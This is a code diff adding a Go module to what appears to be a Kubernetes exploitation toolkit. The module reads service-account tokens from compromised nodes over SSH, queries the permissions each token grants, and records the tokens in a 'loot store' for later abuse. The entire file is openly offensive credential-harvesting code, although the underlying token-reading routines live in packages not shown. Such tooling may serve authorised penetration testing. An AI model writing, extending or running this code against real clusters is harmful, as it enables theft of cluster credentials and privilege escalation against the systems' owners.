@@ -0,0 +1,54 @@
+package exploit
+
+import (
+	"context"
+	"fmt"
+	"k8sEPDS/models"
+	"k8sEPDS/pkg/introspect"
+	"k8sEPDS/pkg/loot"
+	"k8sEPDS/pkg/scan"
+	"time"
+)
+
+// inspectTimeout 检查一个Token(TokenReview 和 SelfSubjectRulesReview)的超时时间
+const inspectTimeout = 15 * time.Second
+
+// criticalSAToken 从受控节点读取SA的Token，读取成功时检查并保存到Token库，利用模块读取Token都经过这里
+// 参数:
+//   - criticalSA: 关键SA(或只有Pod UID的SA)
+//   - ssh: 受控节点的SSH配置
+//   - namespace: 查询权限的命名空间，为空时使用Token所属SA的命名空间
+//   - technique: 读取Token的利用模块
+func criticalSAToken(criticalSA models.CriticalSA, ssh models.SSHConfig, namespace string, technique string) (string, error) {
+	token, err := scan.GetCriticalSAToken(criticalSA, ssh)
+	if err != nil {
+		return token, err
+	}
+	inspectToken(token, namespace, technique, "node/"+ssh.Nodename)
+	return token, nil
+}
+
+// inspectToken 输出获取到的Token的声明、有效性和当前权限，并保存到Token库，Token为空(读取失败)时不处理
+// 参数:
+//   - token: 获取到的Token，可以是Secret data中base64编码的Token
+//   - namespace: 查询权限的命名空间，为空时使用Token所属SA的命名空间
+//   - technique: 获取Token的利用模块
+//   - source: 获取来源的补充说明(如节点、目标SA)
+func inspectToken(token string, namespace string, technique string, source string) {
+	if token == "" {
+		return
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), inspectTimeout)
+	defer cancel()
+	report := introspect.Inspect(ctx, token, namespace)
+	introspect.Print(report)
+	entry, added, err := loot.Record(token, technique, source, report)
+	switch {
+	case err != nil:
+		fmt.Println("[!] The token was not saved to the loot store:", err.Error())
+	case added:
+		fmt.Println("[√] Token saved to the loot store:", entry.ID)
+	default:
+		fmt.Println("[msg] Token already in the loot store, verification updated:", entry.ID)
+	}
+}